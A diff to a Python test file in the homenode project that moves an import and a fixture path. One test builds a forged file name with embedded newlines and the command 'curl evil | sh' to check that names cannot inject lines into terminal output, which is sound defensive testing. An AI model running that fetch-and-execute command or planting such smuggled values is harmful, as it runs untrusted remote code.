@@ -19,7 +19,7 @@ from homenode.cli import main, terminal
 from homenode.cli.terminal import note, print_diff, print_json, say
 from homenode.doc import Doc, Section
 from homenode.doc import Table as Rows
-from homenode.report.terminal_text import PrintableConsole
+from homenode.show.terminal_text import PrintableConsole
 from homenode.wording import printable_lines
 from tests.source_trees import FILES, SOURCE, nodes
 
@@ -238,7 +238,7 @@ def test_a_name_makes_no_line_of_its_own(
         console.cache_clear()
         request.addfinalizer(console.cache_clear)
     forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
-    host = (SOURCE / "hosts/small-2n8c-2gpu.toml").read_bytes()
+    host = (SOURCE / "machine/hosts/small-2n8c-2gpu.toml").read_bytes()
     (tmp_path / f"{forged}.toml").write_bytes(host)
     (tmp_path / f"bad{forged}.toml").write_text("bad")
     document = tmp_path / f"{forged}.xml"
